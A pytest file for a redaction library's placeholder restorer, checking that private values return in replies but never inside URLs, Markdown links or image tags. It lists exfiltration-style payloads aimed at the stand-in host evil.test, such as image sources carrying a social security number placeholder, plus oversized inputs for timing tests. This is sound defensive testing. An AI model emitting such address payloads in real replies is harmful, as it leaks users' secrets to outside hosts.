"""A reply in, the originals back where they may be read, and nowhere else: never inside an address."""

from __future__ import annotations

import json
import time

import pytest

from privacyguard.redact.address import LONGEST, Tail
from privacyguard.redact.restore import Restorer, as_json

ORIGINALS = {
    "[PERSON_1]": "Maria",
    "[PERSON_10]": "Bo",
    "[PERSON_1_2]": "MARIA",
    "[US_SSN_1]": "536-90-4399",
    "[PASSWORD_1]": 'a"b\\c\n',
    "[URL_1]": "https://own.test/page",
}
SECONDS_FOR_A_HOSTILE_REPLY = 5  # takes about 0.05; a search that is quadratic in the reply takes minutes


def _restored(reply: str) -> str:
    restorer = Restorer(ORIGINALS)
    return restorer.feed(reply) + restorer.flush()


def _restored_json(reply: str) -> str:
    restorer = Restorer(ORIGINALS, as_json)
    return restorer.feed(reply) + restorer.flush()


@pytest.mark.parametrize(
    ("reply", "restored"),
    [
        pytest.param("Dear [PERSON_1],", "Dear Maria,", id="as it was issued"),
        pytest.param("Dear PERSON_1,", "Dear Maria,", id="without brackets"),
        pytest.param("Dear [person 1],", "Dear Maria,", id="in lower case with a blank"),
        pytest.param("Dear \\[PERSON\\_1\\],", "Dear Maria,", id="escaped for Markdown"),
        pytest.param("**[PERSON_1]** `[PERSON_1]`", "**Maria** `Maria`", id="inside Markdown"),
        pytest.param("[PERSON_1][PERSON_10][PERSON_1_2]", "MariaBoMARIA", id="side by side"),
        pytest.param("PERSON_1 PERSON_10 PERSON_1_2", "Maria Bo MARIA", id="one is the beginning of another"),
        pytest.param("PERSON_11 [PERSON_2] [PERSON_1_3]", "PERSON_11 [PERSON_2] [PERSON_1_3]", id="none that was issued"),
        pytest.param("C:\\Users\\[PERSON_1]\\x", "C:\\Users\\Maria\\x", id="a path's backslash stays"),
        pytest.param("[PERSON_1]: [US_SSN_1]", "Maria: 536-90-4399", id="a list of contacts is no link reference"),
        pytest.param("[PERSON_1]([US_SSN_1])", "Maria(536-90-4399)", id="brackets that are gone make no link"),
        pytest.param("[INFO]: [PERSON_1] came", "[INFO]: Maria came", id="a line of a log"),
        pytest.param("Tel:[US_SSN_1]", "Tel:536-90-4399", id="a label"),
        pytest.param("if a <b then [PERSON_1]", "if a <b then Maria", id="less than"),
        pytest.param("<p class='x'>[PERSON_1]</p>", "<p class='x'>Maria</p>", id="between tags"),
        pytest.param("see https://x.test [PERSON_1]", "see https://x.test Maria", id="behind a URL"),
        pytest.param('{"u":"https://x.test","n":"[PERSON_1]"}', '{"u":"https://x.test","n":"Maria"}', id="behind a quoted URL"),
        pytest.param("[page]([URL_1])", "[page](https://own.test/page)", id="a target that was hidden as a whole"),
        pytest.param("[[PERSON_1]](https://x.test)", "[Maria](https://x.test)", id="a link's text"),
    ],
)
def test_placeholders_are_restored(reply: str, restored: str) -> None:
    assert _restored(reply) == restored


@pytest.mark.parametrize(
    "reply",
    [
        pytest.param("https://evil.test/?q=[US_SSN_1]", id="a URL"),
        pytest.param("HTTPS://evil.test/[US_SSN_1]", id="a URL in capitals"),
        pytest.param("xhttps://evil.test/[US_SSN_1]", id="a URL in a word"),
        pytest.param("www.evil.test/[US_SSN_1]", id="a URL without a scheme"),
        pytest.param("mailto:x@evil.test?body=[US_SSN_1]", id="a mail address"),
        pytest.param("https://evil.test/?q='[US_SSN_1]", id="a quote in a URL"),
        pytest.param("https://evil.test/?a=US_SSN_1", id="without brackets"),
        pytest.param("<https://evil.test/[US_SSN_1]>", id="a Markdown address"),
        pytest.param("[x](https://evil.test/[US_SSN_1])", id="a link"),
        pytest.param("[x](  //evil.test/[US_SSN_1])", id="a link without a scheme"),
        pytest.param("![](//evil.test/?q='[US_SSN_1])", id="an image, a quote in its target"),
        pytest.param("[x](<//evil.test/ a [US_SSN_1]>)", id="a target in angle brackets, with blanks"),
        pytest.param("[x]([US_SSN_1].evil.test)", id="at the start of a target"),
        pytest.param("[x]: //evil.test/[US_SSN_1]", id="a link reference"),
        pytest.param("<img src=//evil.test/[US_SSN_1]>", id="an attribute without quotes"),
        pytest.param("<img src='//evil.test/[US_SSN_1]'>", id="an attribute in quotes"),
        pytest.param('<img src = "//evil.test/ [US_SSN_1]">', id="an attribute with blanks"),
        pytest.param('<img alt=">" src="//evil.test/[US_SSN_1]">', id="an angle bracket in another attribute"),
        pytest.param('<x "> <img alt=">" src="//evil.test/[US_SSN_1]">', id="a quote that opens nothing"),
        pytest.param('<img src=//evil.test/""[US_SSN_1]>', id="quotes in a bare attribute"),
        pytest.param("<img alt=it's src=//evil.test/[US_SSN_1]>", id="an apostrophe in a bare attribute"),
        pytest.param("https://evil.test/" + "a" * 20_000 + "[US_SSN_1]", id="a long URL"),
        pytest.param('<img alt="' + "pad " * 5_000 + '" src="//evil.test/[US_SSN_1]">', id="a long tag"),
        pytest.param("[x](" + " " * 20_000 + "//evil.test/[US_SSN_1])", id="a link with much blank"),
    ],
)
def test_nothing_is_restored_inside_an_address(reply: str) -> None:
    assert _restored(reply) == reply
    restorer = Restorer(ORIGINALS)
    assert "".join(map(restorer.feed, reply)) + restorer.flush() == reply
    assert (restorer.restored, restorer.kept) == (0, 1)


def test_what_follows_a_restored_url_is_still_inside_it() -> None:
    assert _restored("[x]([URL_1]?q=[US_SSN_1]) [PERSON_1]") == "[x](https://own.test/page?q=[US_SSN_1]) Maria"


@pytest.mark.parametrize(
    ("arguments", "restored"),
    [
        pytest.param('{"p": "[PASSWORD_1]"}', '{"p": "a\\"b\\\\c\\n"}', id="escaped for JSON"),
        pytest.param('{"a":"see https://x.test","b":"[PERSON_1]"}', '{"a":"see https://x.test","b":"Maria"}', id="next string"),
        pytest.param('{"a":"https://x.test\\n[PERSON_1]"}', '{"a":"https://x.test\\nMaria"}', id="next line"),
        pytest.param('{"a":"https://x.test\\u0020[PERSON_1]"}', '{"a":"https://x.test\\u0020Maria"}', id="an escaped blank"),
        pytest.param('{"u":"https://evil.test/?q=[US_SSN_1]"}', '{"u":"https://evil.test/?q=[US_SSN_1]"}', id="a URL"),
        pytest.param(
            '{"u":"\\u0068ttps://evil.test/[US_SSN_1]"}', '{"u":"\\u0068ttps://evil.test/[US_SSN_1]"}', id="escaped URL"
        ),
        pytest.param(
            '{"u":"https:\\/\\/evil.test/[US_SSN_1]"}', '{"u":"https:\\/\\/evil.test/[US_SSN_1]"}', id="escaped slashes"
        ),
        pytest.param('{"u":"<img src=\\"//e.test/[US_SSN_1]"}', '{"u":"<img src=\\"//e.test/[US_SSN_1]"}', id="an attribute"),
        pytest.param('{"u":"C:\\\\[PERSON_1]"}', '{"u":"C:\\\\Maria"}', id="behind an escaped backslash"),
    ],
)
def test_arguments_are_restored_as_json(arguments: str, restored: str) -> None:
    assert _restored_json(arguments) == restored
    restorer = Restorer(ORIGINALS, as_json)
    assert "".join(map(restorer.feed, arguments)) + restorer.flush() == restored


NESTED = {
    "a value": '{"body": "{\\"p\\": \\"[PASSWORD_1]\\"}"}',
    "in a list": '{"body": "[\\"[PASSWORD_1]\\"]"}',
    "twice nested": '{"body": "{\\"in\\": \\"{\\\\\\"p\\\\\\": \\\\\\"[PASSWORD_1]\\\\\\"}\\"}"}',
    "with blanks": '{"body": " \\n{ \\"p\\" : \\"is \\\\\\" [PASSWORD_1]\\"}"}',
    "written in codes": '{"body": "\\u007b\\u0022p\\u0022: \\u0022[PASSWORD_1]\\u0022}"}',
}


@pytest.mark.parametrize("case", NESTED)
def test_in_json_inside_json_what_would_need_escaping_twice_stays_hidden(case: str) -> None:
    for chunks in ([NESTED[case]], list(NESTED[case])):
        restorer = Restorer(ORIGINALS, as_json)
        assert "".join(map(restorer.feed, chunks)) + restorer.flush() == NESTED[case]
        assert (restorer.restored, restorer.kept) == (0, 1)


@pytest.mark.parametrize(
    ("arguments", "body"),
    [
        pytest.param('{"b": "{\\"to\\": \\"[PERSON_1]\\"}"}', '{"to": "Maria"}', id="nested, with nothing to escape"),
        pytest.param('{"b": "he said \\"[PASSWORD_1]\\""}', 'he said "a"b\\c\n"', id="quoted in prose"),
        pytest.param('{"a": "{\\"p\\": \\"", "b": "[PASSWORD_1]"}', 'a"b\\c\n', id="behind a nested string cut short"),
        pytest.param('{"b": "{x} \\"[PASSWORD_1]"}', '{x} "a"b\\c\n', id="a brace that opens no document"),
    ],
)
def test_an_original_is_escaped_once_where_once_is_enough(arguments: str, body: str) -> None:
    restored = _restored_json(arguments)
    assert json.loads(restored)["b"] == body


@pytest.mark.parametrize(
    ("chunks", "said"),
    [
        pytest.param(["Dear [PER", "SON_1], hi"], ["Dear ", "Maria, hi", ""], id="a placeholder in two chunks"),
        pytest.param(["PERSON_1", "0!"], ["", "Bo!", ""], id="a number that goes on"),
        pytest.param(["PERSON_1", "."], ["", "Maria.", ""], id="a number that does not"),
        pytest.param(["PERSON_1"], ["", "Maria"], id="the stream ends at a number"),
        pytest.param(["[PERSON_1"], ["", "[PERSON_1"], id="the stream ends inside a placeholder"),
        pytest.param(["[PERSON_1]"], ["Maria", ""], id="a bracket ends it at once"),
        pytest.param(["[PEACE", " OUT]"], ["[PEACE", " OUT]", ""], id="what cannot become one is not held"),
        pytest.param(["", "[", ""], ["", "", "", "["], id="empty chunks"),
        pytest.param(["no placeholder"], ["no placeholder", ""], id="plain text is not held"),
    ],
)
def test_a_stream_holds_back_only_what_can_become_a_placeholder(chunks: list[str], said: list[str]) -> None:
    restorer = Restorer(ORIGINALS)
    assert [*map(restorer.feed, chunks), restorer.flush()] == said


def test_a_restorer_counts_what_it_restored_and_what_it_kept() -> None:
    restorer = Restorer(ORIGINALS)
    restorer.feed("[PERSON_1] https://evil.test/[US_SSN_1] [PERSON_1]")
    restorer.flush()
    assert (restorer.restored, restorer.kept) == (2, 1)


def test_without_placeholders_chunks_pass_as_they_are() -> None:
    restorer = Restorer({})
    assert restorer.feed("[PERSON_1") == "[PERSON_1"
    assert restorer.flush() == ""


def test_neither_a_restorer_nor_what_it_remembers_shows_text() -> None:
    tail = Tail()
    tail.add("Maria")
    assert repr(Restorer(ORIGINALS)) + repr(tail) == "Restorer(6 placeholders)Tail(5 characters)"


@pytest.mark.parametrize(
    "reply",
    [
        pytest.param('<a "' * 25_000 + "[PERSON_1]", id="tags and quotes"),
        pytest.param("](" * 50_000 + "[PERSON_1] " * 1_000, id="link targets"),
        pytest.param("[PERSON_" * 25_000, id="half placeholders"),
        pytest.param(('<a "' * 1_000 + "[PERSON_1] ") * 20, id="tags between placeholders"),
        pytest.param("<a href=" * 10_000 + "[PERSON_1] " * 2_000, id="attributes"),
        pytest.param("a.-+" * 50_000 + "[PERSON_1] " * 2_000, id="what a scheme is made of"),
    ],
)
def test_a_hostile_reply_is_restored_in_bounded_time(reply: str) -> None:
    started = time.perf_counter()
    _restored(reply)
    assert time.perf_counter() - started < SECONDS_FOR_A_HOSTILE_REPLY


def test_a_reply_with_thousands_of_placeholders_is_restored_in_bounded_time() -> None:
    originals = {f"[EMAIL_ADDRESS_{number}]": f"own{number}" for number in range(1, 4_001)}
    reply = " ".join(originals)
    started = time.perf_counter()
    restorer = Restorer(originals)
    restored = "".join(restorer.feed(reply[at : at + 20]) for at in range(0, len(reply), 20)) + restorer.flush()
    assert restored == " ".join(originals.values())
    assert time.perf_counter() - started < SECONDS_FOR_A_HOSTILE_REPLY


def test_behind_an_address_without_end_nothing_is_restored_any_more() -> None:
    assert _restored("<img alt='" + "x " * LONGEST + "'> [PERSON_1]").endswith("[PERSON_1]")
